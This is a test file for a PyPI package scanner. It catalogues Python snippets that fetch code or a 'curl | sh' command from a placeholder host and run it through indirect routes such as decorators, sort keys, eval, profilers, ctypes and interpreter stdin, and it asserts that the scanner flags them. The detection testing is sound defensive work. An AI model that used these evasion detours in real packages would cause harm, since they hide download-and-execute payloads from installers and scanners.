import assert from "node:assert/strict";
import { test } from "node:test";
import { verdictOf } from "../../test/support/verdict-of.ts";

const FETCHED = "urllib.request.urlopen('https://example.invalid/a.py').read()";
const COMMAND = "'curl -s https://example.invalid/a.sh | sh'";

/** Ways to run what a server says, or a command that fetches, without calling it by its name; inert. */
const DETOURS: Readonly<Record<string, string>> = {
  "by decorators": `@exec\n@(lambda f: ${FETCHED})\ndef x():\n    pass`,
  "by a decorator of its own": `def now(f):\n    f()\n    return f\n@now\ndef x():\n    exec(${FETCHED})`,
  "by the key of a sort": `sorted([${FETCHED}], key=exec)`,
  "by going over a list": `list(map(exec, [${FETCHED}]))`,
  "by a function that takes all arguments": `(lambda *a: exec(*a))(${FETCHED})`,
  "by a generator that gives exec": `def g():\n    yield exec\nfor f in g():\n    f(${FETCHED})`,
  "by the module itself": `run = exec\ngetattr(sys.modules[__name__], 'run')(${FETCHED})`,
  "by the name of exec, evaluated": `eval('exec')(${FETCHED})`,
  "by a timer": `import timeit\ntimeit.timeit(${FETCHED}.decode(), number=1)`,
  "by a profiler": `import cProfile\ncProfile.run(${FETCHED})`,
  "by an interpreter": `import code\ncode.InteractiveInterpreter().runsource(${FETCHED}.decode())`,
  "by the type of functions": `type(lambda: 0)(compile(${FETCHED}, '', 'exec'), globals())()`,
  "by the C library": `import ctypes\nctypes.CDLL(None).system(b${COMMAND})`,
  "by the module behind os": `import posix\nposix.system(${COMMAND})`,
  "by a module that imports os": `import shutil\nshutil.os.system(${COMMAND})`,
  "by a function that puts the command together":
    "import os\ndef r(*c):\n    os.system(' '.join(c))\nr('curl', '-s', 'https://example.invalid/a.sh', '|', 'sh')",
  "by a list of commands":
    "import os\nfor c in ['curl -s https://example.invalid/a.sh -o /tmp/a', 'sh /tmp/a']:\n    os.system(c)",
};

for (const [how, body] of Object.entries(DETOURS))
  test(`a Python package that runs what it fetches ${how} is blocked, at installation and at import`, () => {
    const setup = "from setuptools import setup\nsetup(name='demo', version='1.0')\n";
    const code = `import sys, urllib.request\n${body}\n`;
    const info = { "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n" };
    assert.equal(verdictOf("pypi", { ...info, "setup.py": code + setup }), "malicious");
    assert.equal(verdictOf("pypi", { ...info, "setup.py": setup, "demo/__init__.py": code }), "malicious");
  });

for (const [how, body] of Object.entries({
  "writes to its input":
    "p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\np.stdin.write(r.content)\np.stdin.close()",
  "hands over as its input": "p = subprocess.Popen('bash', stdin=subprocess.PIPE)\np.communicate(r.content)",
}))
  test(`a package that starts an interpreter and ${how} what it fetches is blocked`, () => {
    const code = `import requests, subprocess, sys\nr = requests.get('https://example.invalid/a')\n${body}\n`;
    assert.equal(verdictOf("pypi", { "demo/__init__.py": code }), "malicious");
  });

test("a program that is known gets what is fetched as data", () => {
  const code =
    "import requests, subprocess\ndef load():\n    r = requests.get('https://example.invalid/a')\n    p = subprocess.Popen(['gpg', '--import'], stdin=subprocess.PIPE)\n    p.communicate(r.content)\n";
  assert.equal(verdictOf("pypi", { "demo/__init__.py": code }), "clean");
});

test("an archive at an address that importing the package installs is held", () => {
  const code = "import os, sys\nos.system(f'{sys.executable} -m pip install https://example.invalid/a.tar.gz')\n";
  assert.notEqual(verdictOf("pypi", { "demo/__init__.py": code }), "clean");
});

test("loops over commands that build, timers and sorts are what honest packages have", () => {
  const code =
    "import os, timeit\ndef build():\n    for c in ['make', 'make install']:\n        os.system(c)\nprint(timeit.timeit('1 + 1'), sorted(['b'], key=len))\n";
  assert.equal(verdictOf("pypi", { "demo/__init__.py": code }), "clean");
});
